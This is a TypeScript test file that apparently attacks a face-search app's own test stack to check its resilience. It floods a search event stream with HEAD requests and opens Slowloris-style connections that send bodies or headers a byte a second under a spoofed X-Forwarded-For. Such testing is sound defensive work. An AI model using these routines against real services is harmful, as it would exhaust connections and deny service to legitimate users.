import { FACE_SEARCH_CONSENT, searchStatus, startSearch } from '@pix/contracts/faces.ts'
import { openAsBlob } from 'node:fs'
import { connect, type Socket } from 'node:net'
import { setTimeout as sleep } from 'node:timers/promises'
import { askDatabase, ATTACKER, type Attack, countStatuses, type Ground } from './ground.ts'
import { personAt } from '../person.ts'

const HEADS = 1_500
const CONNECTIONS = 300
const SLOW_SECONDS = 25

export const headsOnStreams: Attack = {
  name: 'HEAD on streams',
  what: `asks ${HEADS} times for the head of a search's event stream and goes away`,
  async run(ground) {
    const person = personAt(ground, ATTACKER)
    const form = { eventId: ground.event.id, consent: FACE_SEARCH_CONSENT.th, selfie: await openAsBlob(ground.selfie) }
    const { id } = await person.call(startSearch, { form })
    const url = `${ground.stack.apiUrl}/api${searchStatus.url.replace(':id', id)}`
    const statuses: number[] = []
    for (let sent = 0; sent < HEADS; sent += 50) {
      const heads = Array.from({ length: 50 }, () =>
        person.send(url, { method: 'HEAD', headers: { accept: 'text/event-stream' } }),
      )
      for (const answer of await Promise.allSettled(heads))
        statuses.push(answer.status === 'fulfilled' ? answer.value.status : 0)
    }
    const transactions = () => askDatabase(ground, 'select sum(xact_commit) from pg_stat_database')
    await sleep(3_000)
    const before = await transactions()
    await sleep(10_000)
    return {
      answers: countStatuses(statuses),
      transactionsPerSecondAfter: ((await transactions()) - before) / 10,
    }
  },
}

export const slowConnections: Attack = {
  name: 'slow connections',
  what: `holds ${CONNECTIONS} connections with bodies of a byte a second and ${CONNECTIONS} with half a head, at the web and at the api`,
  async run(ground) {
    const origins = [new URL(ground.stack.url), new URL(ground.stack.apiUrl)]
    const sockets = origins.flatMap(origin =>
      Array.from({ length: CONNECTIONS }, (_, number) => slowSocket(origin, number % 2 === 0, ground)),
    )
    for (let second = 0; second < SLOW_SECONDS; second++) {
      for (const socket of sockets) if (socket.writable) socket.write('a')
      await sleep(1_000)
    }
    const held = sockets.filter(socket => !socket.destroyed && socket.writable).length
    for (const socket of sockets) socket.destroy()
    return { connections: sockets.length, heldAfter25s: held }
  },
}

function slowSocket(origin: URL, withBody: boolean, { stack }: Ground): Socket {
  const socket = connect({ host: origin.hostname, port: Number(origin.port) })
  socket.on('error', () => undefined)
  socket.resume()
  const head = [
    'POST /api/cart/items HTTP/1.1',
    `Host: ${origin.host}`,
    `Origin: ${stack.url}`,
    `X-Forwarded-For: ${ATTACKER}`,
    'Content-Type: application/json',
    'Content-Length: 1000000',
  ].join('\r\n')
  socket.write(withBody ? `${head}\r\n\r\n` : `${head}\r\nX-Unfinished: `)
  return socket
}
